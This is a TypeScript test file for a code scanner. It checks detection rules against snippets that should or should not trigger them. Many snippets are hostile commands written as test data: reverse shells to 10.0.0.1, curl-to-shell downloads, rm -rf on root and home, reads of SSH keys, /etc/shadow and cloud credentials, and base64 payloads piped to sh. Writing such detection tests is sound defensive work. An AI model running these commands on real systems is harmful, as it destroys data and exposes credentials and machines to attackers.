// Table tests: every bundled rule, in every language it covers, against small real snippets that should and should not fire.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the snippets are source text under test, not templates
import { beforeAll, describe, expect, it } from "vitest";
import { loadRules, type RuleSet, type ScanLanguage, scanText } from "../../runtime/scan/index.js";

type Case = [ruleId: string, language: ScanLanguage, snippet: string, positions: string[]];

/** positions: "line:column" of each finding of that rule in the snippet; [] means the rule must stay silent. */
// biome-ignore format: one case per line keeps the table readable
const CASES: Case[] = [
  // eval / exec
  ["py.eval-exec", "python", "exec(code)", ["1:1"]],
  ["py.eval-exec", "python", "x = 1\nresult = eval(expr, {})", ["2:10"]],
  ["py.eval-exec", "python", "model.eval()\ncursor.execute(sql)\nast.literal_eval(s)", []],
  ["py.compile-code", "python", 'obj = compile(src, "<x>", "exec")', ["1:7"]],
  ["py.compile-code", "python", 'pattern = re.compile(r"exec")', []],
  ["py.builtins-lookup", "python", 'fn = getattr(__builtins__, "ev" + "al")', ["1:6"]],
  ["py.builtins-lookup", "python", 'f = globals()["__builtins__"]', ["1:5"]],
  ["py.builtins-lookup", "python", 'name = getattr(obj, "name")', []],
  ["js.eval", "javascript", "const v = eval(input);", ["1:11"]],
  ["js.eval", "typescript", 'const f = new Function("a", body);', ["1:11"]],
  ["js.eval", "javascript", "globalThis.eval(s)", ["1:1"]],
  ["js.eval", "typescript", "const r = pattern.eval(x); const t = evaluate(y);", []],
  ["js.vm-code", "javascript", 'const vm = require("vm");\nvm.runInNewContext(code, {});', ["2:4"]],
  ["js.vm-code", "typescript", "const s = new vm.Script(src);", ["1:11"]],
  ["js.vm-code", "typescript", "const ctx = createContext();", []],
  ["js.string-timer", "javascript", 'setTimeout("alert(1)", 10);', ["1:1"]],
  ["js.string-timer", "typescript", "setInterval(`tick(${n})`, 1000);", ["1:1"]],
  ["js.string-timer", "typescript", "setTimeout(() => done(), 10);", []],
  ["sh.eval", "shell", 'eval "$CMD"', ["1:1"]],
  ["sh.eval", "shell", 'if true; then eval $(ssh-agent -s); fi', ["1:15"]],
  ["sh.eval", "shell", "# evaluate results\nmy-eval --fast", []],

  // process spawning
  ["py.process-spawn", "python", 'subprocess.run(["ls", "-l"], check=True)', ["1:1"]],
  ["py.process-spawn", "python", "from subprocess import Popen\nos.execvp(prog, args)", ["1:1", "2:1"]],
  ["py.process-spawn", "python", "import os\nimport json\nprint(os.getcwd())", []],
  ["py.shell-command", "python", 'os.system("make all")', ["1:1"]],
  ["py.shell-command", "python", "subprocess.run(cmd, shell=True)", ["1:21"]],
  ["py.shell-command", "python", "subprocess.run(cmd, shell=False)\nos.path.join(a, b)", []],
  ["js.child-process", "javascript", 'const { spawn } = require("node:child_process");', ["1:19"]],
  ["js.child-process", "typescript", 'import { execFile } from "child_process";', ["1:21"]],
  ["js.child-process", "typescript", 'const p = Bun.spawn(["ls"]);', ["1:11"]],
  ["js.child-process", "javascript", 'import { readFile } from "node:fs";\nconst m = re.exec(s);', []],
  ["js.shell-template", "typescript", 'import { $ } from "bun";\nawait $`ls -la ${dir}`;', ["2:7"]],
  ["js.shell-template", "javascript", 'const out = await Bun.$`git status`.text();', ["1:23"]],
  ["js.shell-template", "javascript", "const s = `price: ${cost}$`;", []],
  ["sh.shell-on-variable", "shell", 'bash -c "$USER_CMD"', ["1:1"]],
  ["sh.shell-on-variable", "shell", "sh -c 'echo hi'", []],
  ["sh.backtick-substitution", "shell", "NOW=`date +%s`", ["1:5"]],
  ["sh.backtick-substitution", "shell", "NOW=$(date +%s)", []],

  // unsafe deserialisation
  ["py.unsafe-deserialise", "python", "obj = pickle.loads(blob)", ["1:7"]],
  ["py.unsafe-deserialise", "python", "code = marshal.loads(data)", ["1:8"]],
  ["py.unsafe-deserialise", "python", "cfg = yaml.load(f)\ncfg2 = yaml.load(f, Loader=yaml.FullLoader)", ["1:7", "2:8"]],
  ["py.unsafe-deserialise", "python", "from dill import loads", ["1:1"]],
  [
    "py.unsafe-deserialise",
    "python",
    "cfg = yaml.safe_load(f)\ncfg = yaml.load(f, Loader=yaml.SafeLoader)\ndata = json.loads(s)\npickle.dump(obj, f)",
    [],
  ],
  ["js.unsafe-deserialise", "javascript", 'const serialize = require("node-serialize");\nserialize.unserialize(body);', ["1:27", "2:11"]],
  ["js.unsafe-deserialise", "typescript", 'import { unserialize } from "node-serialize";', ["1:29"]],
  ["js.unsafe-deserialise", "typescript", "const obj = JSON.parse(body);", []],

  // dynamic import
  ["py.dynamic-import", "python", "mod = __import__(name)", ["1:7"]],
  ["py.dynamic-import", "python", "mod = importlib.import_module(f\"plugins.{name}\")", ["1:17"]],
  ["py.dynamic-import", "python", "import os\nimport importlib.metadata\nfrom json import loads", []],
  ["js.dynamic-import", "typescript", "const m = await import(`./plugins/${name}.js`);", ["1:17"]],
  ["js.dynamic-import", "javascript", "const m = await import(modulePath);", ["1:17"]],
  [
    "js.dynamic-import",
    "typescript",
    'const a = await import("./a.js");\nconst b = await import(`./b.js`);\nimport { c } from "./c.js";\ntype T = import("./t.js").T;',
    [],
  ],
  ["js.dynamic-require", "javascript", "const m = require(process.env.PLUGIN);", ["1:11"]],
  ["js.dynamic-require", "typescript", "const handler = require(`./handlers/${kind}`);", ["1:17"]],
  ["js.dynamic-require", "javascript", 'const fs = require("fs");\nconst p = require(\'path\');', []],
  ["sh.dynamic-source", "shell", 'source "$PLUGIN"', ["1:1"]],
  ["sh.dynamic-source", "shell", "set -e; . <(generate-env)", ["1:7"]],
  ["sh.dynamic-source", "shell", "source ./lib/common.sh\n. \"$(dirname \"$0\")/lib.sh\"", []],

  // network
  ["py.network", "python", "import requests\nfrom urllib.request import urlopen", ["1:1", "2:1"]],
  ["py.network", "python", "import os, socket", ["1:1"]],
  ["py.network", "python", "import os\nimport json\nfrom urllib.parse import urlparse", []],
  ["js.network", "typescript", 'const r = await fetch("https://example.com");', ["1:17"]],
  ["js.network", "javascript", 'const http = require("node:http");\nimport net from "net";', ["1:14", "2:12"]],
  ["js.network", "javascript", 'const fs = require("fs");\ncache.fetch(key);', []],
  ["sh.network", "shell", "curl -fsSL https://example.com -o out.json", ["1:1"]],
  ["sh.network", "shell", "exec 3<>/dev/tcp/example.com/80", ["1:9"]],
  ["sh.network", "shell", "echo done > curl.log\nmy-wget-wrapper", []],

  // sensitive paths
  ["any.private-key", "python", 'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()', ["1:39"]],
  ["any.private-key", "javascript", 'readFileSync(join(homedir(), ".ssh", "id_ed25519"))', ["1:39"]],
  ["any.private-key", "typescript", 'const key = "~/.ssh/id_ecdsa";', ["1:21"]],
  ["any.private-key", "shell", "cat ~/.ssh/id_rsa", ["1:12"]],
  ["any.private-key", "shell", "cat ~/.ssh/id_rsa.pub", []],
  ["any.private-key", "python", 'user_id_rsa = 3\nprint("id_rsa.pub")', []],
  ["any.ssh-dir", "python", 'p = Path.home() / ".ssh" / "config"', ["1:20"]],
  ["any.ssh-dir", "javascript", 'const dir = path.join(os.homedir(), ".ssh");', ["1:38"]],
  ["any.ssh-dir", "typescript", 'const known = "~/.ssh/known_hosts";', ["1:18"]],
  ["any.ssh-dir", "shell", "cat >> ~/.ssh/authorized_keys", ["1:10"]],
  ["any.ssh-dir", "shell", "apt-get install openssh-client\nssh-keygen -t ed25519", []],
  ["any.credential-store", "python", 'open(os.path.expanduser("~/.aws/credentials"))', ["1:28"]],
  ["any.credential-store", "javascript", 'readFileSync(`${home}/.kube/config`)', ["1:23"]],
  ["any.credential-store", "typescript", 'const gpg = join(homedir(), ".gnupg");', ["1:30"]],
  ["any.credential-store", "shell", "tar czf /tmp/x.tgz ~/.aws ~/.config/gcloud", ["1:22"]],
  ["any.credential-store", "shell", "ls ~/.config/gcloud", ["1:6"]],
  ["any.credential-store", "shell", "cp .dockerignore build/\necho aws s3 ls", []],
  ["any.package-credentials", "python", 'token = Path.home().joinpath(".npmrc").read_text()', ["1:31"]],
  ["any.package-credentials", "javascript", 'fs.readFileSync(os.homedir() + "/.npmrc")', ["1:34"]],
  ["any.package-credentials", "typescript", 'const rc = "~/.pypirc";', ["1:15"]],
  ["any.package-credentials", "shell", "cat ~/.netrc ~/.git-credentials", ["1:7"]],
  ["any.package-credentials", "shell", "npm config get registry", []],
  ["any.shell-startup-file", "python", 'open(os.path.expanduser("~/.bashrc"), "a")', ["1:28"]],
  ["any.shell-startup-file", "javascript", 'appendFileSync(`${home}/.zshrc`, line);', ["1:25"]],
  ["any.shell-startup-file", "typescript", 'writeFileSync(".git/hooks/pre-commit", hook);', ["1:16"]],
  ["any.shell-startup-file", "shell", "echo 'alias ls=rm' >> ~/.profile", ["1:25"]],
  ["any.shell-startup-file", "python", "import cProfile\nself.profile = True", []],
  ["any.system-secrets", "python", 'open("/etc/shadow").read()', ["1:7"]],
  ["any.system-secrets", "javascript", 'readFileSync("/etc/sudoers")', ["1:15"]],
  ["any.system-secrets", "typescript", 'const f = "/etc/gshadow";', ["1:12"]],
  ["any.system-secrets", "shell", "cat /etc/shadow", ["1:5"]],
  ["any.system-secrets", "shell", "cat /etc/passwd /etc/hosts", []],

  // obfuscation
  ["py.base64-exec", "python", 'exec(base64.b64decode("cHJpbnQoMSk="))', ["1:1"]],
  ["py.base64-exec", "python", "eval(compile(zlib.decompress(blob), 'x', 'exec'))", ["1:1"]],
  ["py.base64-exec", "python", "exec(\n    codecs.decode(payload, 'rot13')\n)", ["1:1"]],
  ["py.base64-exec", "python", 'data = base64.b64decode(s)\nprint(json.loads(data))', []],
  ["py.decoded-payload-exec", "python", "code = base64.b64decode(blob)\nrun = exec\nrun(code) if False else exec(code)", ["1:15"]],
  ["py.decoded-payload-exec", "python", "img = base64.b64decode(s)\nPath('a.png').write_bytes(img)", []],
  ["py.packed-payload", "python", "src = zlib.decompress(base64.b64decode(BLOB))", ["1:7"]],
  ["py.packed-payload", "python", "raw = zlib.decompress(fh.read())", []],
  ["py.chr-chain", "python", "cmd = chr(99) + chr(117) + chr(114) + chr(108)", ["1:7"]],
  ["py.chr-chain", "python", "sep = chr(10) + chr(13)\nletter = chr(ord('a') + 1)", []],
  ["js.base64-eval", "javascript", 'eval(atob("YWxlcnQoMSk="));', ["1:1"]],
  ["js.base64-eval", "typescript", 'new Function(Buffer.from(p, "base64").toString())();', ["1:5"]],
  ["js.base64-eval", "javascript", 'const img = Buffer.from(data, "base64");', []],
  ["js.decoded-payload-eval", "javascript", "const src = atob(blob);\nconst f = new Function(src);", ["1:13"]],
  ["js.decoded-payload-eval", "typescript", 'const src = Buffer.from(blob, "base64").toString();\nlater(() => eval(src));', ["1:13"]],
  ["js.decoded-payload-eval", "typescript", 'const bytes = Buffer.from(s, "base64");\nwriteFileSync("a.png", bytes);', []],
  ["js.char-code-chain", "javascript", "const u = String.fromCharCode(104,116,116,112,58,47,47,120);", ["1:11"]],
  ["js.char-code-chain", "typescript", "const cmd: string = String.fromCharCode(...[0x63, 0x75, 0x72, 0x6c, 0x20, 0x2d, 0x73, 0x20]);", ["1:21"]],
  ["js.char-code-chain", "typescript", "const nl = String.fromCharCode(10);", []],
  ["any.base64-shell", "shell", "echo aGkK | base64 -d | sh", ["1:13"]],
  ["any.base64-shell", "shell", 'eval "$(echo $P | base64 --decode)"', ["1:1"]],
  ["any.base64-shell", "python", 'os.system("echo aGkK | base64 -d | bash")', ["1:24"]],
  ["any.base64-shell", "javascript", 'execSync("base64 -d payload | python3");', ["1:11"]],
  ["any.base64-shell", "typescript", 'await $`bash -c "$(base64 -d < x)"`;', ["1:9"]],
  ["any.base64-shell", "shell", "base64 -d in.b64 > out.png\nbase64 file | tee out", []],
  ["any.long-base64", "python", `BLOB = "${"QUJDRGVmZ2gxMjM0".repeat(14)}"`, ["1:9"]],
  ["any.long-base64", "javascript", `const b = "${"QUJDRGVmZ2gxMjM0".repeat(14)}==";`, ["1:12"]],
  ["any.long-base64", "typescript", `const b = '${"QUJDRGVmZ2gxMjM0".repeat(14)}';`, ["1:12"]],
  ["any.long-base64", "shell", `P=${"QUJDRGVmZ2gxMjM0".repeat(14)}`, ["1:3"]],
  ["any.long-base64", "python", `HEX = "${"0123456789abcdef".repeat(16)}"\nLINE = "${"/".repeat(240)}"`, []],
  ["any.hex-escape-run", "python", 'sc = b"\\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68"', ["1:8"]],
  ["any.hex-escape-run", "javascript", 'const s = "\\u0065\\u0076\\u0061\\u006c\\u0028\\u0078\\u0029\\u003b";', ["1:12"]],
  ["any.hex-escape-run", "typescript", 'const s = "\\x65\\x76\\x61\\x6c\\x28\\x78\\x29\\x3b";', ["1:12"]],
  ["any.hex-escape-run", "shell", "printf '\\143\\165\\162\\154\\040\\150\\164\\164'", ["1:9"]],
  ["any.hex-escape-run", "python", 'MAGIC = b"\\x89PNG\\r\\n\\x1a\\n"', []],

  // dangerous combinations
  ["any.download-exec", "shell", "curl -fsSL https://example.com/install.sh | sh", ["1:1"]],
  ["any.download-exec", "shell", "wget -qO- https://x.example | sudo bash", ["1:1"]],
  ["any.download-exec", "shell", 'bash -c "$(curl -fsSL https://x.example/i.sh)"', ["1:1"]],
  ["any.download-exec", "shell", "source <(curl -s https://x.example/env)", ["1:1"]],
  ["any.download-exec", "python", 'os.system("curl https://x.example/a | python3")', ["1:12"]],
  ["any.download-exec", "javascript", 'execSync("curl -s https://x.example | bash");', ["1:11"]],
  ["any.download-exec", "typescript", "await $`wget -O- ${url} | sh`;", ["1:9"]],
  ["any.download-exec", "shell", "curl -fsSL https://x.example/a.tgz | tar xz\ncurl -s url | shasum", []],
  ["any.rm-rf-root", "shell", "rm -rf /", ["1:1"]],
  ["any.rm-rf-root", "shell", 'rm -fr "$HOME"/*', ["1:1"]],
  ["any.rm-rf-root", "shell", "rm --recursive --force ~", ["1:1"]],
  ["any.rm-rf-root", "shell", "sudo rm -rf --no-preserve-root /", ["1:6"]],
  ["any.rm-rf-root", "python", 'os.system("rm -rf /")', ["1:12"]],
  ["any.rm-rf-root", "javascript", 'execSync("rm -rf ~/");', ["1:11"]],
  ["any.rm-rf-root", "typescript", "await $`rm -rf $HOME`;", ["1:9"]],
  ["any.rm-rf-root", "shell", 'rm -rf /tmp/build\nrm -rf "$OUT/build"\nrm -f /\nrm -rf ~/.cache/x', []],
  ["py.rmtree-root", "python", 'shutil.rmtree("/")', ["1:1"]],
  ["py.rmtree-root", "python", 'shutil.rmtree(os.path.expanduser("~"))\nshutil.rmtree(Path.home())', ["1:1", "2:1"]],
  ["py.rmtree-root", "python", 'shutil.rmtree(Path.home() / "build")\nshutil.rmtree("/tmp/x")', []],
  ["js.rm-root", "javascript", 'fs.rmSync("/", { recursive: true });', ["1:4"]],
  ["js.rm-root", "typescript", "await rm(homedir(), { recursive: true, force: true });", ["1:7"]],
  ["js.rm-root", "typescript", 'await rm(join(homedir(), "build"), { recursive: true });', []],
  ["any.reverse-shell", "shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", ["1:1"]],
  ["any.reverse-shell", "shell", "nc -e /bin/sh 10.0.0.1 4242", ["1:1"]],
  ["any.reverse-shell", "shell", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f", ["1:12"]],
  ["any.reverse-shell", "python", "s.connect((h, p)); os.dup2(s.fileno(), 0)", ["1:23"]],
  ["any.reverse-shell", "javascript", 'spawn("bash", ["-c", "bash -i >& /dev/tcp/h/1 0>&1"]);', ["1:23"]],
  ["any.reverse-shell", "typescript", 'execSync("ncat h 80 -e /bin/bash");', ["1:11"]],
  ["any.reverse-shell", "shell", "nc -z localhost 8080\nnc -l 9000 > file", []],
];

let ruleSet: RuleSet;
beforeAll(async () => {
  ruleSet = await loadRules();
});

function positionsOf(ruleId: string, language: ScanLanguage, snippet: string): string[] {
  return scanText(snippet, { file: "snippet", language, ruleSet })
    .filter((finding) => finding.ruleId === ruleId)
    .map((finding) => `${finding.line}:${finding.column}`);
}

describe("bundled rules, per rule and language", () => {
  it.each(CASES)("%s (%s): %j → %j", (ruleId, language, snippet, positions) => {
    expect(ruleSet.rules.some((rule) => rule.id === ruleId)).toBe(true);
    expect(positionsOf(ruleId, language, snippet)).toEqual(positions);
  });

  it("covers every rule with a positive case in each of its languages and at least one negative case", () => {
    const missing: string[] = [];
    for (const rule of ruleSet.rules) {
      for (const language of rule.languages) {
        const positive = CASES.some((c) => c[0] === rule.id && c[1] === language && c[3].length > 0);
        if (!positive) missing.push(`${rule.id} has no positive ${language} case`);
      }
      if (!CASES.some((c) => c[0] === rule.id && c[3].length === 0))
        missing.push(`${rule.id} has no negative case`);
    }
    expect(missing).toEqual([]);
  });

  it("does not fire a rule outside its languages", () => {
    // Python's exec() is fine to mention in a shell script's text; the Python rule must not apply there.
    expect(positionsOf("py.eval-exec", "shell", "exec(code)")).toEqual([]);
    expect(positionsOf("js.eval", "python", "eval(x)")).toEqual([]);
    expect(positionsOf("sh.eval", "javascript", 'eval "$x"')).toEqual([]);
  });
});

const BENIGN: Array<[ScanLanguage, string]> = [
  [
    "python",
    [
      "import os",
      "import sys",
      "import json",
      "from pathlib import Path",
      "data = json.loads(Path(sys.argv[1]).read_text())",
      'out = os.path.join(os.environ["OUT"], "result.json")',
      "Path(out).write_text(json.dumps(data, indent=2))",
      'print(f"{len(data)} items")',
      "# eval the results later by hand",
    ].join("\n"),
  ],
  [
    "javascript",
    [
      'import { readFileSync, writeFileSync } from "node:fs";',
      'import path from "node:path";',
      'const data = JSON.parse(readFileSync(process.argv[2], "utf8"));',
      "const total = data.items.reduce((sum, item) => sum + item.size, 0);",
      'writeFileSync(path.join(process.env.OUT, "total.txt"), `${total}\\n`);',
      "const match = /x/.exec(String(total));",
    ].join("\n"),
  ],
  [
    "typescript",
    [
      'import { join } from "node:path";',
      "export interface Row { name: string; count: number }",
      "export function summarise(rows: Row[]): string {",
      '  return rows.map((row) => `${row.name}: ${row.count}`).join("\\n");',
      "}",
      'const helper = await import("./helper.js");',
      "const total = helper.sum([1, 2, 3]);",
      "console.log(join('a', 'b'), total);",
    ].join("\n"),
  ],
  [
    "shell",
    [
      "#!/usr/bin/env bash",
      "set -euo pipefail",
      'OUT_DIR="$OUT/report"',
      'mkdir -p "$OUT_DIR"',
      'rm -rf "$OUT_DIR/tmp"',
      'for f in "$DUT"/*.v; do',
      '  wc -l "$f" >> "$OUT_DIR/lines.txt"',
      "done",
      'echo "done in $(pwd)"',
    ].join("\n"),
  ],
];

describe("common benign code", () => {
  it.each(BENIGN)("%s snippet raises no finding at all", (language, snippet) => {
    expect(scanText(snippet, { file: "benign", language, ruleSet })).toEqual([]);
  });
});
